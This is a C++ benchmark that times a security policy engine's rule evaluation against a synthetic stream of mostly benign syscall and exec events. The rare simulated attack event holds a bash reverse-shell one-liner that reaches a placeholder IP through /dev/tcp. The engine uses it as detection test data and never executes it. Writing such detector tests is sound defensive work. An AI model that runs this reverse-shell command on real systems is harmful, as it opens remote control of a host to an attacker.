// policy_bench: evaluation throughput of policies/default.yaml on a realistic event mix
// (mostly benign syscalls and execs, a few attacks). Target: >= 2 million events/s, one core.
//
//   policy_bench [RULE_FILE...]
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "policy/policy.hpp"

namespace {

using policy::Event;
using policy::EventType;

// Distinct events cycled through. The daemon evaluates each event right after building it, so
// it is hot in cache; a pool of this size (about 1 MB) keeps the bench close to that.
constexpr std::size_t kPool = 2048;

constexpr std::int64_t kWrOnly = 01, kCreat = 0100, kTrunc = 01000, kAppend = 02000,
                       kCloexec = 02000000;

Event base(EventType type, std::string name, std::string parent, std::int64_t pid) {
    Event e;
    e.type = type;
    e.vm.name = "web-01";
    e.vm.uuid = "5f0c1c2e-8d1f-4b7a-9a57-2b1d0a4c9e11";
    e.proc.pid = pid;
    e.proc.ppid = pid - 1;
    e.proc.name = name;
    e.proc.exe = "/usr/bin/" + name;
    e.proc.uid = 33;
    e.proc.euid = 33;
    e.proc.gid = 33;
    e.proc.pname = parent;
    e.proc.pexe = "/usr/sbin/" + parent;
    e.proc.anames = {parent, "systemd"};
    e.proc.entity_id = "ent-" + std::to_string(pid);
    return e;
}

std::vector<Event> make_events(std::size_t n) {
    std::mt19937 rng(42);
    const std::vector<std::string> procs = {"nginx", "php-fpm", "postgres", "python3", "node",
                                            "sshd",  "cron",    "bash",     "systemd", "rsyslogd"};
    const std::vector<std::string> read_paths = {"/var/www/html/index.php",
                                                 "/etc/ld.so.cache",
                                                 "/usr/lib/x86_64-linux-gnu/libc.so.6",
                                                 "/etc/nsswitch.conf",
                                                 "/etc/hosts",
                                                 "/proc/self/status",
                                                 "/var/lib/postgresql/15/main/base/16384/2619",
                                                 "/etc/passwd",
                                                 "/usr/share/zoneinfo/UTC",
                                                 "/etc/ssl/certs/ca-certificates.crt"};
    const std::vector<std::string> write_paths = {"/var/log/nginx/access.log", "/tmp/php-sess-abc",
                                                  "/var/lib/postgresql/15/main/pg_wal/x",
                                                  "/var/cache/app/item-123", "/run/nginx.pid"};
    const std::vector<std::vector<std::string>> execs = {
        {"ls", "-la", "/var/www"},
        {"sh", "-c", "/usr/bin/php /var/www/cron.php"},
        {"git", "status"},
        {"python3", "manage.py", "migrate"},
        {"grep", "-r", "error", "/var/log/app"},
        {"ps", "aux"},
        {"systemctl", "status", "nginx"},
        {"curl", "-s", "https://api.example.com/health"},
        {"logrotate", "/etc/logrotate.conf"},
        {"du", "-sh", "/var/lib"}};
    std::vector<Event> out;
    out.reserve(n);
    std::uniform_int_distribution<int> pct(0, 999);
    for (std::size_t i = 0; i < n; ++i) {
        const int r = pct(rng);
        const auto pid = static_cast<std::int64_t>(1000 + i % 5000);
        const std::string& pname = procs[i % procs.size()];
        if (r < 1) {  // 0.1%: an attack
            Event e = base(EventType::Exec, "sh", "nginx", pid);
            e.set_args({"sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"});
            out.push_back(std::move(e));
        } else if (r < 450) {  // openat reads
            Event e = base(EventType::Syscall, pname, "systemd", pid);
            e.syscall.name = "openat";
            e.syscall.nr = 257;
            e.syscall.path = read_paths[static_cast<std::size_t>(r) % read_paths.size()];
            e.syscall.flags = kCloexec;
            out.push_back(std::move(e));
        } else if (r < 600) {  // openat writes
            Event e = base(EventType::Syscall, pname, "systemd", pid);
            e.syscall.name = "openat";
            e.syscall.nr = 257;
            e.syscall.path = write_paths[static_cast<std::size_t>(r) % write_paths.size()];
            const bool log = e.syscall.path->starts_with("/var/log/");
            e.syscall.flags = kWrOnly | kCreat | (log || r % 2 ? kAppend : kTrunc);
            out.push_back(std::move(e));
        } else if (r < 680) {  // connect
            Event e = base(EventType::Syscall, r % 2 ? "php-fpm" : "python3", "systemd", pid);
            e.syscall.name = "connect";
            e.syscall.nr = 42;
            e.syscall.addr = r % 2 ? "10.0.0.12" : "127.0.0.1";
            e.syscall.port = r % 3 ? 5432 : 443;
            out.push_back(std::move(e));
        } else if (r < 760) {  // other syscalls
            Event e = base(EventType::Syscall, pname, "systemd", pid);
            e.syscall.name = r % 2 ? "setuid" : "unlinkat";
            e.syscall.args = {33};
            if (r % 2 == 0) e.syscall.path = "/tmp/php-sess-old";
            out.push_back(std::move(e));
        } else if (r < 880) {  // exec
            const auto& args = execs[static_cast<std::size_t>(r) % execs.size()];
            Event e = base(EventType::Exec, args[0], r % 2 ? "bash" : "cron", pid);
            e.set_args(args);
            out.push_back(std::move(e));
        } else if (r < 940) {
            out.push_back(base(EventType::Start, pname, "systemd", pid));
        } else if (r < 990) {
            out.push_back(base(EventType::Exit, pname, "systemd", pid));
        } else {
            Event e = base(EventType::Rename, "worker-" + std::to_string(r % 4), pname, pid);
            e.proc.previous_name = pname;
            out.push_back(std::move(e));
        }
    }
    return out;
}

}  // namespace

int main(int argc, char** argv) {
    std::vector<std::filesystem::path> files;
    for (int i = 1; i < argc; ++i) files.emplace_back(argv[i]);
    if (files.empty()) files.emplace_back(std::filesystem::path(VMI_POLICIES_DIR) / "default.yaml");
    auto loaded = policy::PolicySet::load(files);
    if (!loaded) {
        for (const auto& e : loaded.errors) std::fprintf(stderr, "%s\n", e.str().c_str());
        return 1;
    }
    const policy::PolicySet& set = *loaded.set;
    const auto events = make_events(kPool);

    std::vector<policy::Match> matches;
    std::size_t total_matches = 0;
    // Warm up, then run for about two seconds.
    for (const auto& e : events) {
        matches.clear();
        set.evaluate(e, matches);
    }
    std::size_t evaluated = 0;
    const auto start = std::chrono::steady_clock::now();
    auto now = start;
    while (now - start < std::chrono::seconds(2)) {
        for (const auto& e : events) {
            matches.clear();
            total_matches += set.evaluate(e, matches);
        }
        evaluated += events.size();
        now = std::chrono::steady_clock::now();
    }
    const double secs = std::chrono::duration<double>(now - start).count();
    const double rate = static_cast<double>(evaluated) / secs;
    std::printf("policy-eval: %.2f million events/s (one core, %zu rules)\n", rate / 1e6,
                set.rule_count());
    std::printf("  %zu events in %.2f s, %.0f ns/event, %zu matches (%.3f%%)\n", evaluated, secs,
                1e9 / rate, total_matches,
                100.0 * static_cast<double>(total_matches) / static_cast<double>(evaluated));
    // Which rules the mix triggers (one pass over the pool).
    std::map<std::string, std::size_t> per_rule;
    for (const auto& e : events) {
        matches.clear();
        set.evaluate(e, matches);
        for (const auto& m : matches) ++per_rule[m.rule->name];
    }
    for (const auto& [name, count] : per_rule) {
        std::printf("  %6zu / %zu  %s\n", count, events.size(), name.c_str());
    }
    return 0;
}
